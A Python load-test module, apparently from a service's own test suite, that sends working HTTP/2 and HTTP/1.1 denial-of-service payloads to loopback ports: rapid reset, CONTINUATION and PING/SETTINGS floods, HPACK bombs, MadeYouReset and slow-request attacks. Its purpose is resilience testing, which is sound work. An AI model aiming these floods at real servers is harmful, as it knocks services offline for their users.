"""Attacks on an API's ports, as raw bytes; each keeps several connections busy.

    python -m loadtest.attacks NAME --http PORT --grpc PORT --seconds 10

Sources: the HTTP/2 advisories of 2019 (CVE-2019-9511 to 9518), rapid reset (CVE-2023-44487), the
CONTINUATION flood (VU#421644), MadeYouReset (CVE-2025-8671), and docs/hostile-callers.md.
Only for loopback.
"""

import argparse
import asyncio
import itertools
import time
from collections.abc import Callable, Iterable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from typing import cast

from hpack import Encoder

from chassis.process.interrupts import interruptible
from http2 import frames
from http2.frames import NUMBER, PREFACE, SETTING, written
from user_contracts.proto.user.v1 import GetRequest, ListRequest

HOST = "127.0.0.1"
CHUNK = 64 * 1024  # bytes of a flood that are written at once
WINDOW, TABLE = 4, 1  # settings: INITIAL_WINDOW_SIZE, HEADER_TABLE_SIZE
QUERIES = "/user.v1.UserQueries/"
LIST, GET = QUERIES + "List", QUERIES + "Get"
CHECK, WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
GREETING = PREFACE + written(frames.SETTINGS, 0, 0)
NO_WINDOW = PREFACE + written(frames.SETTINGS, 0, 0, SETTING.pack(WINDOW, 0))
WHOLE = frames.END_HEADERS | frames.END_STREAM
USERS = b"GET /user?limit=100 HTTP/1.1\r\nHost: localhost\r\n\r\n"


@dataclass(frozen=True, slots=True)
class Attack:
    """Bytes of each connection: `first`, then those of `then`, until the server closes it.

    holds: seconds to stay when everything was sent; then it starts over.
    """

    port: str
    first: bytes = b""
    then: Callable[[], Iterable[bytes]] = tuple
    connections: int = 1
    reads: bool = True
    every: float = 0.0
    """Seconds between two parts."""
    holds: float = 60.0


def block(path: str, *others: tuple[str, str], method: str = "POST") -> bytes:
    """Return a header block without references to the dynamic table."""
    first = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "x")]
    return Encoder().encode(
        [*first, ("te", "trailers"), ("content-type", "application/grpc"), *others]
    )


def calls(path: str, message: bytes | None, count: int = 100) -> bytes:
    """Return calls on the first streams of a connection; message None: headers only."""
    headers = block(path)
    return b"".join(call(stream, headers, message) for stream in odd(count))


def call(stream: int, headers: bytes, message: bytes | None) -> bytes:
    begun = written(frames.HEADERS, frames.END_HEADERS, stream, headers)
    if message is None:
        return begun
    body = b"\0" + NUMBER.pack(len(message)) + message
    return begun + written(frames.DATA, frames.END_STREAM, stream, body)


def odd(count: int) -> range:
    return range(1, 2 * count, 2)


def repeated(part: bytes) -> Callable[[], Iterator[bytes]]:
    """Return the same bytes repeatedly, CHUNK bytes at a time."""
    chunk = part * max(1, CHUNK // len(part))
    return lambda: itertools.repeat(chunk)


def streams(make: Callable[[int], bytes]) -> Callable[[], Iterator[bytes]]:
    """Return new bytes for each stream, endlessly."""

    def made() -> Iterator[bytes]:
        numbers = iter(range(1, 2**31, 2))
        while batch := list(itertools.islice(numbers, 200)):
            yield b"".join(make(number) for number in batch)

    return made


def frame(kind: int, payload: bytes = b"", flags: int = 0, stream: int = 0) -> bytes:
    return written(kind, flags, stream, payload)


def flood(part: bytes) -> Attack:
    """Return frames after a hundred calls that wait for their messages."""
    return Attack("grpc", GREETING + calls(CHECK, None), repeated(part))


MESSAGE = bytes(ListRequest(limit=100))
LISTS = calls(LIST, MESSAGE)
NOBODY = "01890000-0000-7000-8000-ffffffffffff"
WAITS = calls(GET, bytes(GetRequest(id=NOBODY, min_version=9)))
HALF = b"\0" + NUMBER.pack(60_000) + bytes(16_000)
WINDOWS = b"".join(SETTING.pack(WINDOW, size) for size in range(2_730))
NAMES = "".join(chr(97 + n % 26) for n in range(4_000))
BOMB = Encoder().encode([("x-bomb", NAMES)])
INDEXED = block(GET) + b"\xbe" * 900  # the newest entry of the table, 900 times
PLAIN, BAD = block(GET), block(GET, ("connection", "close"))
BY_GET = block(GET, method="GET")


def _tables(stream: int) -> bytes:
    """Return a call that changes the size of the table, and fills it."""
    sizes = b"\x20\x3f\xe1\x1f"
    return frame(frames.HEADERS, sizes + block(GET, (f"x-{stream}", NAMES[:200])), WHOLE, stream)


def _reset(stream: int) -> bytes:
    return call(stream, PLAIN, None) + frame(frames.RST_STREAM, NUMBER.pack(8), 0, stream)


def _bomb(stream: int) -> bytes:
    return frame(frames.HEADERS, (BOMB if stream == 1 else b"") + INDEXED, WHOLE, stream)


def _one_byte_headers(stream: int) -> bytes:
    return frame(frames.HEADERS, PLAIN + b"\x90" * 900, WHOLE, stream)


CONTINUED = frame(frames.HEADERS, PLAIN, 0, 1) + frame(frames.CONTINUATION, b"", 0, 1) * 10
HEADERS = b"GET /user HTTP/1.1\r\nHost: localhost\r\n" + b"".join(
    b"X-%d: %s\r\n" % (number, b"y" * 8_000) for number in range(100)
)
BODY = b"POST /user HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
CHUNKED = BODY + b"Transfer-Encoding: chunked\r\n\r\n"

ATTACKS = {
    "PING": flood(frame(frames.PING, bytes(8))),
    "PING acknowledgements": flood(frame(frames.PING, bytes(8), frames.ACK)),
    "SETTINGS": flood(frame(frames.SETTINGS, SETTING.pack(3, 100))),
    "SETTINGS of 2,730 windows": flood(frame(frames.SETTINGS, WINDOWS)),
    "empty SETTINGS": flood(frame(frames.SETTINGS)),
    "PRIORITY": flood(frame(frames.PRIORITY, NUMBER.pack(0) + b"x", 0, 1)),
    "empty DATA": flood(frame(frames.DATA, b"", 0, 1)),
    "tiny DATA": flood(frame(frames.DATA, b"x", 0, 1)),
    "padding": flood(frame(frames.DATA, b"\x08" + bytes(9), frames.PADDED, 1)),
    "window of a stream": flood(frame(frames.WINDOW_UPDATE, NUMBER.pack(1), 0, 1)),
    "window of the connection": flood(frame(frames.WINDOW_UPDATE, NUMBER.pack(1))),
    "window of nothing": flood(frame(frames.WINDOW_UPDATE, NUMBER.pack(0), 0, 1)),
    "unknown frames": flood(frame(0x2A, bytes(8))),
    "rapid reset": Attack("grpc", GREETING, streams(_reset)),
    "MadeYouReset": Attack(
        "grpc", GREETING, streams(lambda s: frame(frames.HEADERS, BAD, WHOLE, s))
    ),
    "refused calls": Attack(
        "grpc", GREETING, streams(lambda s: frame(frames.HEADERS, BY_GET, WHOLE, s))
    ),
    "900 headers of one byte": Attack("grpc", GREETING, streams(_one_byte_headers)),
    "HPACK bomb": Attack("grpc", GREETING, streams(_bomb)),
    "HPACK tables": Attack("grpc", GREETING, streams(_tables)),
    "CONTINUATION": Attack("grpc", GREETING, lambda: [CONTINUED]),
    "unfinished header blocks": Attack(
        "grpc", GREETING, lambda: [frame(frames.HEADERS, bytes(16_000), 0, 1)], connections=150
    ),
    "unread lists": Attack("grpc", NO_WINDOW + LISTS, connections=10, reads=False),
    "unread lists, closed": Attack(
        "grpc", NO_WINDOW + LISTS, connections=10, reads=False, holds=0.1
    ),
    "watches, closed": Attack(
        "grpc", GREETING + calls(WATCH, b""), connections=10, reads=False, holds=0.1
    ),
    "waits for a version": Attack("grpc", GREETING + WAITS, connections=4, holds=2),
    "half messages": Attack(
        "grpc",
        GREETING
        + b"".join(
            call(stream, block(CHECK), None) + frame(frames.DATA, HALF, 0, stream)
            for stream in odd(16)
        ),
        connections=50,
    ),
    "garbage messages": Attack(
        "grpc", GREETING, streams(lambda s: call(s, block(CHECK), b"\xff" * 8))
    ),
    "HTTP/1.1: unfinished headers": Attack("http", HEADERS, connections=150),
    "HTTP/1.1: a byte now and then": Attack(
        "http", b"GET / HTTP/1.1\r\nX: ", lambda: itertools.repeat(b"y"), 150, every=1
    ),
    "HTTP/1.1: pipelined": Attack(
        "http", b"", repeated(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
    ),
    "HTTP/1.1: unread lists": Attack("http", USERS * 1_000, connections=10, reads=False),
    "HTTP/1.1: unread lists, closed": Attack(
        "http", USERS * 1_000, connections=10, reads=False, holds=0.1
    ),
    "HTTP/1.1: tiny chunks": Attack("http", CHUNKED, repeated(b"1\r\nx\r\n")),
    "HTTP/1.1: slow bodies": Attack(
        "http",
        BODY + b"Content-Length: 60000\r\n\r\n",
        lambda: itertools.repeat(b"x" * 1_000),
        150,
        every=1,
    ),
    "HTTP/1.1: garbage": Attack("http", b"\x16\x03\x01\x02\x00\r\n", connections=10),
    "connections": Attack("http", connections=20, holds=0.0),
    "connections that stay": Attack("grpc", connections=900),
}


async def keep(attack: Attack, port: int, until: float) -> int:
    """Keep one connection open, reconnecting when it is closed; return the number of connects."""
    opened = 0
    while time.monotonic() < until:
        try:
            reader, writer = await asyncio.open_connection(HOST, port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        opened += 1
        try:
            async with asyncio.timeout(until - time.monotonic()):
                await once(attack, reader, writer)
        except (ConnectionError, TimeoutError):
            pass
        finally:
            writer.transport.abort()
    return opened


async def once(attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    reading = asyncio.create_task(discard(reader)) if attack.reads else None
    if not attack.reads:
        cast("asyncio.Transport", writer.transport).pause_reading()
    try:
        writer.write(attack.first)
        await writer.drain()
        for part in attack.then():
            writer.write(part)
            await writer.drain()
            await asyncio.sleep(attack.every)
            if reading and reading.done():
                return
        if reading:
            await asyncio.wait([reading], timeout=attack.holds)
        else:
            await asyncio.sleep(attack.holds)
    finally:
        if reading:
            reading.cancel()


async def discard(reader: asyncio.StreamReader) -> None:
    """Return when the other side closes."""
    with suppress(ConnectionError):
        while await reader.read(CHUNK):
            pass


async def run(attack: Attack, port: int, seconds: float) -> int:
    """Attack a port; return the number of connections."""
    until = time.monotonic() + seconds
    return sum(
        await asyncio.gather(*[keep(attack, port, until) for _ in range(attack.connections)])
    )


@interruptible()
def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("--http", type=int, required=True)
    parser.add_argument("--grpc", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=10.0)
    options = parser.parse_args()
    attack = ATTACKS[options.name]
    port = options.http if attack.port == "http" else options.grpc
    print(asyncio.run(run(attack, port, options.seconds)))


if __name__ == "__main__":
    main()
